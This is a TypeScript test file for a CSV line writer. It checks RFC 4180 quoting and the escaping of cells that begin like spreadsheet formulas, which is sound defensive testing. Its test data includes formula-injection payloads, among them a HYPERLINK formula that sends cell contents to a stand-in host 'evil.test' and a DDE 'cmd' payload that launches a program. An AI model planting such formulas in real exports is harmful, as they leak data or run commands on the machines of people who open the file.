import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine } from './csv.ts';

/** Reads one line as RFC 4180 says. */
function cellsOf(line: string): string[] {
  const cells = line.slice(0, -2).match(/(?<=^|,)(?:"(?:[^"]|"")*"|[^",\r\n]*)(?=,|$)/g) ?? [];
  return cells.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
}

describe('a line', () => {
  it('is what RFC 4180 says', () => {
    expect(csvLine(['plain', 'a,b', 'say "yes"', 'two\r\nlines', ''])).toBe('plain,"a,b","say ""yes""","two\r\nlines",\r\n');
  });

  it('can be read back, whatever is in it', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 6 }), (cells) => {
        const read = cellsOf(csvLine(cells));
        return read.length === cells.length && read.every((cell, i) => cell === cells[i] || cell === `'${cells[i]}`);
      }),
    );
  });
});

describe('a cell', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("http://evil.test?"&A1,"Click")',
    '+49 151 5550100',
    '+5',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '-',
    '-.5',
    '-1e9',
    '-1,5',
    '\uff1d1+1',
  ])('that begins like a formula is a text: %j', (cell) => {
    expect(cellsOf(csvLine([cell, 'next']))[0]).toBe(`'${cell}`);
  });

  it.each(['-5', '-0.00000001', '-9223372036854.775807', '5', '0.5', 'spot', 'a=b', ' =x', '2026-11-15 08:30:00'])(
    'that is a number or plain stays as it is: %j',
    (cell) => {
      expect(cellsOf(csvLine([cell, 'next']))[0]).toBe(cell);
    },
  );

  it('never begins like a formula, unless it is a number', () => {
    const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '');
    fc.assert(
      fc.property(start, fc.string(), (first, rest) => {
        const [cell = ''] = cellsOf(csvLine([first + rest, 'next']));
        return !/^[=+\-@\t\r]/.test(cell) || /^-?\d+(\.\d+)?$/.test(cell);
      }),
    );
  });
});
